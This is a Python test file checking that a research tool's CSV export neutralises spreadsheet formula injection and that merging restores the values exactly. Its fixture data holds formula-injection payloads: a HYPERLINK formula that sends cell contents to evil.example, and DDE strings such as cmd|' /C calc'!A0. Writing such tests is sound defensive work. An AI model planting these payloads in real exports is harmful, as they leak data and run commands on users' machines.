"""CSV exports a spreadsheet cannot execute, and that `companion merge` undoes exactly.

Formula-like text (titles, replies, transcripts beginning with =, +, -, @, tab, CR or an
apostrophe) goes through a real session, a real CSV export and a real merge, and comes out of
the study database as it went in; numbers stay numbers; JSONL stays exact."""

from __future__ import annotations

import csv
import json
import random
import sqlite3
from pathlib import Path

import pytest

from companion.research import cells
from companion.research.export import ExportOptions, export_home
from companion.research.merge import DEVICE_TABLES, merge_exports
from tests.helpers.run import run_cli
from tests.helpers.study import make_home, run_scripted, session_lines

TRIGGERS = ("=", "+", "-", "@")
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted in the original",
    "''two apostrophes",
    "\t=tab first",
    "\r=carriage return first",
    "plain = not at the start",
]
WORDS = " ".join(["word"] * 130)


@pytest.fixture(scope="module")
def nasty_home(tmp_path_factory):
    """A home whose stories, replies and transcripts begin with formula characters."""
    root = tmp_path_factory.mktemp("csvsafe")
    opened = make_home(root / "home", "P001", "Ada")
    stories = root / "stories.jsonl"
    titles = ["=cmd|' /C calc'!A0", "+SUM(1)", "-minus title", "@at title", "'apostrophe title"]
    stories.write_text(
        "".join(
            json.dumps({"title": t, "text": f"{WORDS} {i}", "emotion": "proud"}) + "\n"
            for i, t in enumerate(titles)
        )
    )
    done = run_cli("stories", "import", str(stories), home=opened.home.path)
    assert done.returncode == 0, done.stderr
    from datetime import UTC, datetime

    lines = session_lines(random.Random(1))
    # the story (a transcript) and its follow-up: free text kept as said
    lines[2:5] = ["=1+1 is what I told my grandson", "-and then he laughed", "that's all"]
    status = run_scripted(opened, lines, datetime(2026, 3, 2, 18, tzinfo=UTC))
    assert status == "completed"
    db = opened.db
    # replies: every raw answer and free-text value starts with one of the characters
    ids = [r[0] for r in db.execute("SELECT id FROM self_reports ORDER BY id")]
    for n, rid in enumerate(ids):
        db.execute("UPDATE self_reports SET raw_answer = ?, value_text = ? WHERE id = ?",
                   [NASTY[n % len(NASTY)], NASTY[(n + 3) % len(NASTY)], rid])  # fmt: skip
    db.execute("UPDATE self_reports SET value_text = '' WHERE id = ?", [ids[0]])  # empty, not NULL
    db.execute("UPDATE story_exposures SET match_score = -1.5")  # a number, not text
    db.execute("UPDATE events SET detail = '@event detail' WHERE id = 1")
    return opened


def csv_cells(folder: Path) -> list[tuple[str, str, str]]:
    """(file, column, cell) for every data cell of every CSV file in the export."""
    out = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.DictReader(f):
                out += [(path.stem, col, cell) for col, cell in row.items()]
    return out


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_neutralise_and_restore_are_inverse():
    for value in [*NASTY, "", "plain", "'", "-", "=", "42", "-1.5"]:
        cell = cells.neutralise(value)
        assert not cell.startswith(TRIGGERS) and cell != ""
        assert cells.restore(cell) == value
    assert cells.neutralise(-1.5) == -1.5 and cells.neutralise(-3) == -3
    assert cells.neutralise(None) == "" and cells.restore("") is None


def test_csv_export_neutralises_and_merge_restores_exactly(nasty_home, tmp_path):
    home = nasty_home
    out = tmp_path / "export"
    export_home(home.home, out, ExportOptions(include_transcripts=True))
    seen = csv_cells(out)
    # no cell a spreadsheet would execute: only numbers (here -1.5) may begin with a sign
    risky = [(t, c, v) for t, c, v in seen if v.startswith((*TRIGGERS, "\t", "\r"))]
    assert risky and all(is_number(v) for _, _, v in risky), risky
    assert ("story_exposures", "match_score", "-1.5") in seen
    assert ("stories", "title", "''apostrophe title") in seen
    assert ("stories", "title", "'=cmd|' /C calc'!A0") in seen
    assert any(v == "'=1+1 is what I told my grandson" for _, c, v in seen if c == "text")
    book = json.loads((out / "codebook.json").read_text())
    assert any("CSV cells are neutralised" in n for n in book["notes"])
    assert "JSONL exports carry every value exactly" in (out / "codebook.md").read_text()

    study = tmp_path / "study.db"
    done = run_cli("merge", str(study), str(out))
    assert done.returncode == 0, done.stderr
    assert_same(home.home.db_path, study)
    again = run_cli("merge", str(study), str(out))  # idempotent on neutralised cells too
    assert again.returncode == 0 and "0 rows added" in again.stdout, again.stderr


def test_jsonl_is_exact_and_agrees_with_csv(nasty_home, tmp_path):
    home = nasty_home
    out = tmp_path / "jsonl"
    export_home(home.home, out, ExportOptions(format="jsonl", include_transcripts=True))
    titles = [json.loads(line)["title"] for line in (out / "stories.jsonl").open()]
    assert "=cmd|' /C calc'!A0" in titles and "'apostrophe title" in titles
    study = tmp_path / "study.db"
    merge_exports(study, [out])
    assert_same(home.home.db_path, study)
    as_csv = tmp_path / "csv"
    export_home(home.home, as_csv, ExportOptions(include_transcripts=True))
    (result,) = merge_exports(study, [as_csv])
    assert sum(result.added.values()) == 0  # the same rows, to the byte


def assert_same(home_db: Path, study_db: Path) -> None:
    """Every exported value of the home is in the study database unchanged."""
    src, dst = sqlite3.connect(home_db), sqlite3.connect(study_db)
    try:
        titles = dict(src.execute("SELECT id, title FROM stories"))
        assert dict(dst.execute("SELECT id, title FROM stories")) == titles
        for table in DEVICE_TABLES:
            cols = [r[1] for r in dst.execute(f"PRAGMA table_info({table})")]
            cols = [c for c in cols if c not in ("id", "device_id", "source_id", "session_id")]
            cols = [c for c in cols if c != "audio_path"]  # not exported without --include-audio
            select = ", ".join(cols)
            want = src.execute(f"SELECT id, {select} FROM {table} ORDER BY id").fetchall()
            got = dst.execute(f"SELECT source_id, {select} FROM {table} ORDER BY source_id")
            assert got.fetchall() == want, table
        texts = {r[0] for r in dst.execute("SELECT raw_answer FROM self_reports")}
        assert set(NASTY) <= texts
        assert dst.execute("SELECT COUNT(*) FROM self_reports WHERE value_text = ''").fetchone()[0]
        (score,) = dst.execute("SELECT DISTINCT match_score FROM story_exposures").fetchone()
        assert score == -1.5 and isinstance(score, float)
    finally:
        src.close()
        dst.close()
